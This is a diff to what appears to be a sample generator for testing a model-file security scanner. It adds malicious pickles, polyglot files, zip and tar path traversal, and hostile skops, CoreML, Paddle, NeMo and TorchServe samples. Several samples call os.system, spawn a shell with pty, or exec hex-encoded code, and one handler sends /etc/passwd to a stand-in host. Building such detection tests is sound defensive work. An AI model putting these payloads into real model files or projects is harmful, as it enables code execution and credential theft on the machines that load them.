@@ -54,6 +54,9 @@ def samples() -> Iterator[Sample]:
     yield from _code()
     yield from _texts()
     yield from _pickles()
+    yield from _containers()
+    yield from _others()
+    yield from _served()
 
 
 def deflate(data: bytes, level: int = 9) -> bytes:
@@ -605,3 +608,159 @@ def _pickles() -> Iterator[Sample]:
     for (group, name), data in rows.items():
         filename = "model.pt" if group.startswith("torch") else "model.pkl"
         yield file(group, name, filename, data, static="the same call as beside it, which is proved")
+
+
+def _containers() -> Iterator[Sample]:
+    info = dump({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
+    magic, version = dump(0x1950A86A20F9469CFC6C, 2), dump(1001, 2)
+    legacy = {
+        "call-in-the-system-info": magic + version + dump({"protocol_version": Call("posix", "system", (SHELL,))}, 2) + GOOD + dump([], 2),
+        "call-in-the-keys": magic + version + info + GOOD + dump([Call("posix", "system", (SHELL,))], 2),
+        "call-in-the-version": magic + dump(Call("posix", "system", (SHELL,)), 2) + info + GOOD + dump([], 2),
+        "behind-the-storages": magic + version + info + GOOD + dump([], 2) + bytes(16) + EVIL,
+    }  # fmt: skip
+    for name, data in legacy.items():
+        yield file("torch-legacy", name, "model.pt", data, static="the same call as beside it, which is proved")
+    zips = {
+        "byteorder-is-a-pickle": torch_zip(GOOD, more={".data/serialization_id": EVIL}),
+        "second-root": plain_zip({"a/data.pkl": GOOD, "a/version": b"3\n", "b/data.pkl": EVIL, "b/version": b"3\n"}),
+        "in-upper-case": plain_zip({"a/data.pkl": GOOD, "a/DATA.PKL": EVIL, "a/version": b"3\n"}),
+        "deflated-pickle": plain_zip({"archive/data.pkl": EVIL, "archive/version": b"3\n"}, 8),
+        "packed-by-lzma": plain_zip({"archive/data.pkl": EVIL, "archive/version": b"3\n"}, 14),
+        "tensors-of-a-state": torch_zip(
+            dump({"w": Build(New(Name("collections", "OrderedDict")), {"x": Call("nt", "system", (SHELL,))})}, 2)
+        ),
+    }
+    for name, data in zips.items():
+        yield file("torch-zip", name, "model.pt", data, static="the same call as beside it, which is proved")
+    polyglots = {
+        "gif-then-pickle": b"GIF89a" + bytes(7) + b";" + EVIL,
+        "jpeg-then-zip": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(7) + b"\xff\xd9" + plain_zip({"data.pkl": EVIL}),
+        "wav-then-pickle": b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + bytes(4) + EVIL,
+        "elf-then-zip": ELF + plain_zip({"data.pkl": EVIL}),
+        "json-then-pickle": b'{"a": 1}' + EVIL,
+        "csv-then-zip": b"a,b\n1,2\n" * 50 + plain_zip({"data.pkl": EVIL}),
+        "zip-then-zip": plain_zip({"data.pkl": GOOD}) + plain_zip({"data.pkl": EVIL}),
+        "sqlite-then-pickle": b"SQLite format 3\0" + struct.pack(">H", 512) + bytes(494) + EVIL,
+    }  # fmt: skip
+    for name, data in polyglots.items():
+        yield file("polyglot", name, "model.bin", data, static="read by whoever reads on")
+    longer = {
+        "gnu-long-name": "a/" * 80 + "../" * 90 + "x",
+        "unicode-dots": "\uff0e\uff0e/\uff0e\uff0e/x",
+        "backslash-inside": "a\\..\\..\\..\\x",
+        "trailing-blank": ".. /x/../../y",
+    }
+    for name, path in longer.items():
+        yield file(
+            "traversal",
+            f"zip-{name}",
+            "model.zip",
+            zipped(Member("readme", b"x"), Member(path, b"x", flags=0 if path.isascii() else 1 << 11)),
+            static="acts when it is unpacked",
+        )
+        yield file(
+            "traversal",
+            f"tar-{name}",
+            "model.tar.xz",
+            tarred({"readme": b"x", path: b"x"}, "w:xz"),
+            static="acts when it is unpacked",
+        )
+
+
+def _skops(name: str, module: str, loader: str, **more: object) -> bytes:
+    root = {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}
+    return plain_zip({"schema.json": json.dumps({**root, "protocol": 2, "_skops_version": "0.11.0"}).encode()})
+
+
+def _others() -> Iterator[Sample]:
+    rows = {
+        "type-of-another-module": _skops("Popen", "subprocess", "TypeNode", content=None),
+        "json-node-calls": _skops("eval", "builtins", "JsonNode", content="1", is_json=True),
+        "ufunc-of-another-module": _skops("system", "os", "UfuncNode", content=None),
+        "list-of-a-function": _skops("list", "builtins", "ListNode", content=[{"__class__": "system", "__module__": "nt", "__loader__": "FunctionNode", "__id__": 2, "content": None}]),
+        "default-factory": _skops("defaultdict", "collections", "DefaultDictNode", content={}, default_factory={"__class__": "popen", "__module__": "os", "__loader__": "FunctionNode", "__id__": 2, "content": None}),
+        "file-by-an-absolute-path": _skops("ndarray", "numpy", "NdArrayNode", type="numpy", file="/etc/passwd"),
+    }  # fmt: skip
+    for name, data in rows.items():
+        yield file("skops", name, "model.skops", data, **STATIC)
+    head = proto((1, 5), (2, proto((100, proto((1, "x"))))))
+    coreml = {
+        "custom-layer-in-a-pipeline": head
+        + proto((202, proto((1, head + proto((500, proto((1, proto((1, "l"), (500, proto((10, "Evil")))))))))))),
+        "linked-model-up": head + proto((556, proto((1, proto((1, proto((1, proto((1, "../../x.mlmodelc")))))))))),
+        "custom-model-in-an-update": head + proto((10, 1), (555, proto((10, "EvilModel"), (20, b"x")))),
+    }
+    for name, data in coreml.items():
+        yield file("coreml", name, "model.mlmodel", data, **STATIC)
+
+    def program(kind: str, *attributes: bytes) -> bytes:
+        operator = proto((3, kind), *((4, one) for one in attributes))
+        return proto((1, proto((1, 0), (2, (1 << 64) - 1), (4, operator)))) + proto((4, proto((1, 0))))
+
+    for name, kind in {
+        "saves": "save_combine",
+        "sends": "send",
+        "serves": "listen_and_serv",
+        "python-layer": "py_layer",
+    }.items():
+        yield file(
+            "paddle",
+            f"program-{name}",
+            "model.pdmodel",
+            program(kind, proto((1, "file_path"), (2, 2), (5, "/root/.bashrc"))),
+            **STATIC,
+        )
+    delegate = bytes([0x18, 0, 0, 0]) + b"ET12"
+    for name, data in {
+        "zip-behind": delegate + bytes(32) + plain_zip({"data.pkl": EVIL}),
+        "root-of-minus-one": b"\xff\xff\xff\xffET12" + bytes(64),
+        "pickle-in-front": EVIL + delegate + bytes(64),
+    }.items():
+        yield file("executorch", name, "model.pte", data, **STATIC)
+    configs = {
+        "target-in-a-dataset": "train_ds:\n  dataset:\n    _target_: os.system\n    command: id\n",
+        "target-of-a-builtin": "cfg:\n  _target_: builtins.exec\n  _args_: ['1']\n",
+        "partial": "cfg:\n  _target_: subprocess.Popen\n  _partial_: true\n",
+        "loader-path": "cfg:\n  _target_: importlib.import_module\n  name: evil\n",
+    }
+    for name, text in configs.items():
+        yield file(
+            "nemo",
+            name,
+            "model.nemo",
+            tarred({"model_config.yaml": text.encode(), "model_weights.ckpt": torch_zip(GOOD)}),
+            "CVE-2025-23304",
+            **STATIC,
+        )
+
+
+def _served() -> Iterator[Sample]:
+    manifest = '{"model": {"modelName": "m", "serializedFile": "%s", "handler": "%s", "modelVersion": "1.0"}, "archiverVersion": "0.9"}'
+    handlers = {
+        "handler-imports-by-name": b"__import__('o' + 's').system('id')\ndef handle(d, c):\n    return d\n",
+        "handler-compiles": b"exec(compile(open('/tmp/x').read(), 'x', 'exec'))\ndef handle(d, c):\n    return d\n",
+        "handler-by-getattr": b"import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+        "handler-loads-a-pickle": b"import pickle\npickle.loads(open('x', 'rb').read())\n",
+        "handler-opens-an-address": b"import urllib.request as u\nu.urlopen('http://host.invalid/' + open('/etc/passwd').read())\n",
+        "handler-through-ctypes": b"import ctypes\nctypes.CDLL(None).system(b'id')\n",
+    }
+    for name, source in handlers.items():
+        entries = {"MAR-INF/MANIFEST.json": (manifest % ("m.pt", "h.py")).encode(), "h.py": source, "m.pt": GOOD}
+        yield file("torchserve", name, "model.mar", plain_zip(entries), **STATIC)
+    head = {"p/.data/version": b"6\n", "p/.data/extern_modules": b"os\n", "p/.data/python_version": b"3.11.7"}
+    uses = dump(New(Name("<torch_package_0>.net", "Net")), 2)
+    sources = {
+        "source-through-ctypes": b"import ctypes\nctypes.CDLL(None).system(b'id')\n",
+        "source-of-hex": b"exec(bytes.fromhex('7072696e742831293b'))\n",
+        "source-through-pty": b"import pty\npty.spawn('sh')\n",
+        "source-with-a-metaclass": b"class M(type):\n    def __new__(m, *a):\n        __import__('subprocess').run('id')\n        return type(*a)\nclass Net(metaclass=M):\n    pass\n",
+    }  # fmt: skip
+    for name, source in sources.items():
+        yield file(
+            "torch-package",
+            name,
+            "model.pt",
+            plain_zip({**head, "p/net.py": source, "p/model/model.pkl": uses}),
+            **STATIC,
+        )
